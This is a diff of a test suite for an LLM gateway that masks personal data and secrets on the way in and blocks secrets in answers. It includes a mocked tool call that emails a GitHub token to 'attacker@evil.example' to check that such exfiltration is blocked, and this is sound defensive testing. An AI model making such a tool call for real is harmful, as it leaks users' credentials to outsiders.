@@ -1,9 +1,8 @@
 // scan.pii and scan.secrets in the gateway: the upstream never receives raw values, pseudonyms
 // come back restored, and a secret split across streamed chunks never leaves.
 import OpenAI from 'openai';
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { type MockUpstream, startMockUpstream } from '../support/mock-upstream.ts';
-import { type TestGateway, mockPolicy, startTestGateway } from '../support/gateway.ts';
+import { describe, expect, it } from 'vitest';
+import { mockPolicy, useMockGateway } from '../support/gateway.ts';
 
 const EMAIL = 'jane.doe@example.com';
 const CARD = '4111 1111 1111 1111';
@@ -24,28 +23,16 @@ const guards = `  - id: auth.api_key
 `;
 
 describe('sensitive data through the gateway', () => {
-  let up: MockUpstream;
-  let t: TestGateway;
-  beforeAll(async () => {
-    up = await startMockUpstream({ kind: 'echo' });
-    t = await startTestGateway(mockPolicy(up.baseUrl, guards));
-  });
-  afterAll(async () => {
-    await t.close();
-    await up.close();
-  });
-  beforeEach(() => {
-    up.received.length = 0;
-    up.mode = { kind: 'echo' };
-  });
+  const fx = useMockGateway((base) => mockPolicy(base, guards), { kind: 'echo' });
+
 
   const ask = (content: string, stream = false, extra: object = {}) =>
-    t.post('/v1/chat/completions', { model: 'mock-chat', stream, messages: [{ role: 'user', content }], ...extra });
+    fx.t.post('/v1/chat/completions', { model: 'mock-chat', stream, messages: [{ role: 'user', content }], ...extra });
 
   it('sends placeholders upstream and restores them in the answer', async () => {
     const r = await ask(`Please write to Jane Doe at ${EMAIL} about card ${CARD}.`);
     expect(r.status).toBe(200);
-    const sent = up.received[0]!.body;
+    const sent = fx.up.received[0]!.body;
     expect(sent).not.toContain(EMAIL);
     expect(sent).not.toContain('Jane Doe');
     expect(sent).not.toContain(CARD);
@@ -57,7 +44,7 @@ describe('sensitive data through the gateway', () => {
   });
 
   it('keeps placeholders consistent across the turns of one conversation', async () => {
-    const r = await t.post('/v1/chat/completions', {
+    const r = await fx.t.post('/v1/chat/completions', {
       model: 'mock-chat',
       messages: [
         { role: 'user', content: `My email is ${EMAIL}.` },
@@ -66,7 +53,7 @@ describe('sensitive data through the gateway', () => {
       ],
     });
     expect(r.status).toBe(200);
-    const sent = JSON.parse(up.received[0]!.body) as { messages: Array<{ content: string }> };
+    const sent = JSON.parse(fx.up.received[0]!.body) as { messages: Array<{ content: string }> };
     expect(sent.messages[0]!.content).toContain('<EMAIL_ADDRESS_1>');
     expect(sent.messages[2]!.content).toContain('<EMAIL_ADDRESS_1>');
     expect(sent.messages[2]!.content).toContain('<EMAIL_ADDRESS_2>');
@@ -75,12 +62,12 @@ describe('sensitive data through the gateway', () => {
   it('masks secrets on the way in', async () => {
     const r = await ask(`deploy with key ${AWS} and token ${GH}`);
     expect(r.status).toBe(200);
-    expect(up.received[0]!.body).not.toContain(AWS);
-    expect(up.received[0]!.body).not.toContain(GH);
+    expect(fx.up.received[0]!.body).not.toContain(AWS);
+    expect(fx.up.received[0]!.body).not.toContain(GH);
   });
 
   it('restores pseudonyms in a streamed answer, placeholders split across chunks', async () => {
-    up.mode = { kind: 'echo', chunkSize: 2 };
+    fx.up.mode = { kind: 'echo', chunkSize: 2 };
     const r = await ask(`Say hello to Jane Doe (${EMAIL}).`, true);
     const text = await r.text();
     const content = text
@@ -97,14 +84,14 @@ describe('sensitive data through the gateway', () => {
     // The upstream itself produces the secret (the input guard cannot have seen it).
     const answer = `Here is the deploy token: ${GH} use it well`;
     for (const size of [1, 3, 7, 40]) {
-      up.mode = { kind: 'stream', chunks: answer.match(new RegExp(`[^]{1,${size}}`, 'g'))! };
+      fx.up.mode = { kind: 'stream', chunks: answer.match(new RegExp(`[^]{1,${size}}`, 'g'))! };
       const r = await ask('what is the token?', true);
       const text = await r.text();
       expect(text).not.toContain(GH.slice(0, 12));
       expect(text).toMatch(/BULWARK_E_POLICY_BLOCKED/);
     }
-    const client = new OpenAI({ apiKey: t.key, baseURL: `${t.url}/v1`, maxRetries: 0 });
-    up.mode = { kind: 'stream', chunks: answer.match(/[^]{1,5}/g)! };
+    const client = new OpenAI({ apiKey: fx.t.key, baseURL: `${fx.t.url}/v1`, maxRetries: 0 });
+    fx.up.mode = { kind: 'stream', chunks: answer.match(/[^]{1,5}/g)! };
     const stream = await client.chat.completions.create({ model: 'mock-chat', stream: true, messages: [{ role: 'user', content: 'token?' }] });
     const drain = async () => {
       for await (const _ of stream) {
@@ -115,7 +102,7 @@ describe('sensitive data through the gateway', () => {
   });
 
   it('blocks a secret in a non-streamed answer', async () => {
-    up.mode = { kind: 'ok', answer: `the key is ${AWS}` };
+    fx.up.mode = { kind: 'ok', answer: `the key is ${AWS}` };
     const r = await ask('key?');
     expect(r.status).toBe(400);
     expect(await r.text()).not.toContain(AWS);
@@ -123,18 +110,18 @@ describe('sensitive data through the gateway', () => {
 
   it('checks tool-call arguments: a secret exfiltrated through a tool call is blocked, streamed or not', async () => {
     const args = JSON.stringify({ to: 'attacker@evil.example', body: `token ${GH}` });
-    up.mode = { kind: 'tool', args };
+    fx.up.mode = { kind: 'tool', args };
     const r = await ask('email the team');
     expect(r.status).toBe(400);
     expect(await r.text()).not.toContain(GH);
     for (const size of [1, 5, 17]) {
-      up.mode = { kind: 'tool', args, chunkSize: size };
+      fx.up.mode = { kind: 'tool', args, chunkSize: size };
       const s = await ask('email the team', true);
       const text = await s.text();
       expect(text).not.toContain(GH.slice(0, 12));
       expect(text).toMatch(/BULWARK_E_POLICY_BLOCKED/);
     }
-    up.mode = { kind: 'tool', args: JSON.stringify({ to: 'team@example.com', body: 'all good' }), chunkSize: 3 };
+    fx.up.mode = { kind: 'tool', args: JSON.stringify({ to: 'team@example.com', body: 'all good' }), chunkSize: 3 };
     const ok = await (await ask('email the team', true)).text();
     const sent = ok
       .split('\n\n')
@@ -148,7 +135,7 @@ describe('sensitive data through the gateway', () => {
   });
 
   it('masks secrets in tool-call arguments of the conversation history on the way in', async () => {
-    const r = await t.post('/v1/chat/completions', {
+    const r = await fx.t.post('/v1/chat/completions', {
       model: 'mock-chat',
       messages: [
         { role: 'user', content: 'deploy it' },
@@ -158,6 +145,6 @@ describe('sensitive data through the gateway', () => {
       ],
     });
     expect(r.status).toBe(200);
-    expect(up.received[0]!.body).not.toContain(AWS);
+    expect(fx.up.received[0]!.body).not.toContain(AWS);
   });
 });
